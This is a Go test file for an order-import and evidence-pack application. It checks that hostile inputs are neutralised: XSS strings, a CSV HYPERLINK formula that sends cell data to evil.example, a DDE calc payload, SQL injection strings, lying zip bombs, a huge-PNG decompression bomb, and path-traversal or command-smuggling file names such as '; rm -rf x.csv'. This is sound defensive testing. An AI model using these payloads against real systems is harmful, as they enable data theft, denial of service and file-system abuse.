package desk

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/zlib"
	"context"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"afterdesk/backend/domain"
	"afterdesk/backend/evidence"
)

const hostileText = `<script>alert(1)</script><img src=x onerror=alert(2)>`

// importText imports a file of that text for a new file shop.
func importText(t *testing.T, d *Desk, path, body string) (domain.SheetRun, domain.Shop) {
	t.Helper()
	ctx := context.Background()
	if err := os.WriteFile(path, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	shop, err := d.AddFileShop(ctx, "文件店", "CNY", "Asia/Shanghai")
	if err != nil {
		t.Fatal(err)
	}
	look, err := d.LookFile(ctx, path, "")
	if err != nil {
		t.Fatal(err)
	}
	run, err := d.ImportFile(ctx, domain.SheetPlan{Path: path, Sheet: look.Sheet, ShopID: shop.ID, Mapping: look.Mapping})
	if err != nil {
		t.Fatal(err)
	}
	return run, shop
}

func TestATenMegabyteRemarkIsABadRowAndHostileTextStaysText(t *testing.T) {
	ctx, c := context.Background(), newClock()
	d := open(t, t.TempDir(), c)
	const formula = `=HYPERLINK(""http://evil.example/?""&A1,""open"")`
	head := "订单编号,商品名称,商家编码,数量,实付金额,下单时间,支付时间,订单状态,买家留言\n"
	row := func(id, title, words string) string {
		return fmt.Sprintf("%s,\"%s\",SKU-1,1,119.00,2026-11-01 10:00:00,2026-11-01 10:01:00,已发货,\"%s\"\n", id, title, words)
	}
	run, shop := importText(t, d, filepath.Join(t.TempDir(), "orders.csv"), head+
		row("6900000000000000011", "卫衣", strings.Repeat("长", 10<<20/3))+
		row("6900000000000000012", hostileText, hostileText)+
		row("6900000000000000013", formula, "@SUM(1+1)*cmd|' /C calc'!A0")+
		row("=1+6900000000000000014", "卫衣", ""))
	if run.Added < 2 || run.Bad < 1 || len(run.Sample) == 0 || run.Sample[0].Why != "too_long" || run.Sample[0].Row != 2 {
		t.Fatalf("run %+v", run)
	}
	o, err := d.Store.GetOrder(ctx, domain.RemoteKey(shop.ID, "6900000000000000012"))
	if err != nil || len(o.Lines) != 1 || o.Lines[0].ProductName != hostileText {
		t.Errorf("text was changed: %+v %v", o.Lines, err)
	}
	if page, err := d.Store.ListOrders(ctx, domain.OrderQuery{Text: hostileText}); err != nil {
		t.Errorf("search for it: %v, %d", err, len(page.Items))
	}
	for _, text := range []string{`"`, `" OR 1=1 --`, `NEAR(`, `*`, `卫衣*`, "\x00", strings.Repeat("衣", 100000), `'; DROP TABLE orders; --`} {
		if _, err := d.Palette(ctx, text); err != nil && domain.CodeOf(err) != domain.CodeInvalid {
			t.Errorf("palette %.20q: %v", text, err)
		}
	}
	exported, err := d.ExportOrders(ctx, domain.OrderQuery{})
	if err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{exported, run.BadPath} {
		raw, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if len(raw) > 2<<20 {
			t.Errorf("%s holds %d bytes", filepath.Base(path), len(raw))
		}
		for _, bad := range []string{`,"=`, `,=`, `,"@`, `,@`, "\n=", "\n\"="} {
			if bytes.Contains(raw, []byte(bad)) {
				t.Errorf("%s holds a live formula after %q", filepath.Base(path), bad)
			}
		}
	}
}

// bomb returns raw deflate data that unpacks to about mib MiB of zeros.
func bomb(mib int) []byte {
	var one bytes.Buffer
	w, _ := flate.NewWriter(&one, flate.BestCompression)
	_, _ = w.Write(make([]byte, 16<<20))
	_ = w.Flush()
	return append(bytes.Repeat(one.Bytes(), (mib+15)/16), 0x03, 0x00)
}

// writeZip writes a ZIP of plain parts and of one bomb that says it holds said bytes.
func writeBomb(t *testing.T, path, name string, mib int, said uint64, plain map[string]string) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	z := zip.NewWriter(f)
	for n, body := range plain {
		w, err := z.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(body)); err != nil {
			t.Fatal(err)
		}
	}
	data := bomb(mib)
	w, err := z.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, CompressedSize64: uint64(len(data)), UncompressedSize64: said})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(data); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
}

var workbook = map[string]string{
	"[Content_Types].xml":        `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
	"_rels/.rels":                `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
	"xl/workbook.xml":            `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
	"xl/_rels/workbook.xml.rels": `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
}

// grown runs fn and returns by how many MiB the process grew meanwhile.
func grown(fn func()) int64 {
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	fn()
	runtime.ReadMemStats(&after)
	return (int64(after.Sys) - int64(before.Sys)) >> 20
}

func TestAZipBombIsRefusedAsWorkbookAndAsPackWithoutUnpackingIt(t *testing.T) {
	ctx, c := context.Background(), newClock()
	d := open(t, t.TempDir(), c)
	for name, what := range map[string]struct {
		mib  int
		said uint64
	}{"honest": {3 << 10, 3 << 30}, "honest and half a gigabyte": {512, 512 << 20}, "saying it is small": {512, 1000}, "saying it is half a gigabyte less": {512, 1 << 20}} {
		dir := t.TempDir()
		book, pack := filepath.Join(dir, "orders.xlsx"), filepath.Join(dir, "pack.zip")
		writeBomb(t, book, "xl/worksheets/sheet1.xml", what.mib, what.said, workbook)
		writeBomb(t, pack, "data/photo.jpg", what.mib, what.said, map[string]string{"bagit.txt": "BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n"})
		mib := grown(func() {
			if _, err := d.LookFile(ctx, book, ""); domain.CodeOf(err) != domain.CodeInvalid {
				t.Errorf("%s workbook: %v", name, err)
			}
			rep, err := d.Evidence.Verify(ctx, pack)
			if domain.CodeOf(err) != domain.CodeInvalid && (err != nil || rep.OK || len(rep.Damaged) == 0) {
				t.Errorf("%s pack: %+v %v", name, rep, err)
			}
		})
		if mib > 150 {
			t.Errorf("%s bomb: the process grew by %d MiB", name, mib)
		}
	}
}

// hugePNG is a picture of w × h black points in a small file.
func hugePNG(w, h uint32) []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	chunk := func(kind string, data []byte) {
		_ = binary.Write(&b, binary.BigEndian, uint32(len(data)))
		b.WriteString(kind)
		b.Write(data)
		_ = binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(append([]byte(kind), data...)))
	}
	chunk("IHDR", append(binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, w), h), 1, 0, 0, 0, 0))
	var z bytes.Buffer
	zw, _ := zlib.NewWriterLevel(&z, zlib.BestSpeed)
	line := make([]byte, 1+(w+7)/8)
	for range h {
		_, _ = zw.Write(line)
	}
	_ = zw.Close()
	chunk("IDAT", z.Bytes())
	chunk("IEND", nil)
	return b.Bytes()
}

func TestAHundredMegapixelPictureIsKeptAndNeverDecoded(t *testing.T) {
	ctx, c := context.Background(), newClock()
	d := open(t, t.TempDir(), c)
	path := filepath.Join(t.TempDir(), "huge.png")
	raw := hugePNG(12000, 10000)
	if err := os.WriteFile(path, raw, 0o600); err != nil {
		t.Fatal(err)
	}
	mib := grown(func() {
		out, err := d.AddFiles(ctx, domain.AddFilesRequest{Paths: []string{path}}, domain.SourcePicker)
		if err != nil || out[0].Code != "" {
			t.Fatalf("capture: %+v %v", out, err)
		}
		row, err := d.Store.GetEvidence(ctx, out[0].ID)
		if err != nil || row.Item.Width != 12000 || row.Item.Height != 10000 || row.Item.Size != int64(len(raw)) {
			t.Errorf("row %+v %v", row.Item, err)
		}
		if _, _, _, err := d.Evidence.OpenMedia(ctx, "thumb/"+out[0].ID); domain.CodeOf(err) != domain.CodeUnsupported {
			t.Errorf("thumb: %v", err)
		}
	})
	if mib > 90 {
		t.Errorf("the process grew by %d MiB", mib)
	}
	verifies(t, d)
}

func TestHostileFileNamesStayInsideTheDataFolder(t *testing.T) {
	ctx, c, root := context.Background(), newClock(), t.TempDir()
	dir := filepath.Join(root, "house", "data")
	d := open(t, dir, c)
	if _, err := d.StartDemo(ctx, demoOf(c, 120)); err != nil {
		t.Fatal(err)
	}
	caseID, err := d.PickPackCase(ctx)
	if err != nil || caseID == "" {
		t.Fatal(caseID, err)
	}
	a, err := d.Store.GetAfterSale(ctx, caseID)
	if err != nil {
		t.Fatal(err)
	}
	names := []string{"../../x", `..\..\x.jpg`, "/etc/passwd", `C:\Windows\x.jpg`, "CON.jpg", "con", "nul.txt", strings.Repeat("长", 300) + ".jpg", "photo\u202egpj.exe",
		"two\nlines.jpg", "tab\there.jpg", "zero\x00byte.jpg", ".", "..", "", " ", "\xff\xfe.jpg", "a:b*c?.jpg", "=cmd.jpg", strings.Repeat("../", 100) + "x"}
	for i, name := range names {
		res, err := d.Evidence.Add(ctx, evidence.Offer{Reader: bytes.NewReader(noise(rand.New(rand.NewPCG(uint64(i), 77)))), Name: name, Source: domain.SourcePicker,
			OrderID: a.OrderID, AfterSaleID: a.ID})
		if err != nil {
			t.Errorf("%q: %v", name, err)
			continue
		}
		row, err := d.Store.GetEvidence(ctx, res.ID)
		if err != nil || row.Item.Name == "" || len(row.Item.Name) > 255 || strings.ContainsAny(row.Item.Name, "/\\\n\r\t\x00:*?\u202e") || strings.Trim(row.Item.Name, ". ") == "" {
			t.Errorf("%q is kept as %q, %v", name, row.Item.Name, err)
		}
	}
	offered := filepath.Join(root, "offered")
	if err := os.MkdirAll(offered, 0o700); err != nil {
		t.Fatal(err)
	}
	serial := uint64(500)
	for _, name := range []string{"CON.csv", "two\nlines.csv", "=cmd.csv", "rtl\u202evsc.csv", strings.Repeat("长", 80) + ".csv", "..csv", "orders.csv ; rm -rf x.csv"} {
		serial++
		from, _, err := writeOrders(offered, serial, 3)
		if err != nil {
			t.Fatal(err)
		}
		raw, err := os.ReadFile(from)
		if err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(offered, name)
		if err := os.Remove(from); err != nil {
			t.Fatal(err)
		}
		run, _ := importText(t, d, path, string(raw)+"坏的,,,,,,,\n")
		if run.Added != 3 || run.BadPath != "" && !within(filepath.Join(dir, "imports"), run.BadPath) {
			t.Errorf("%q: %+v", name, run)
		}
	}
	pack, err := d.BuildPack(ctx, caseID, "")
	if err != nil {
		t.Fatal(err)
	}
	if rep, err := d.Evidence.Verify(ctx, pack.ZIPPath); err != nil || !rep.OK {
		t.Errorf("pack: %+v %v", rep, err)
	}
	z, err := zip.OpenReader(pack.ZIPPath)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	for _, f := range z.File {
		if !filepath.IsLocal(f.Name) || strings.ContainsAny(f.Name, "\\\n\x00") {
			t.Errorf("the pack holds %q", f.Name)
		}
	}
	verifies(t, d)
	if err := filepath.WalkDir(root, func(path string, _ fs.DirEntry, err error) error {
		if err == nil && path != root && path != filepath.Join(root, "house") && !within(dir, path) && !within(offered, path) {
			t.Errorf("%s was written outside", path)
		}
		return err
	}); err != nil {
		t.Fatal(err)
	}
}
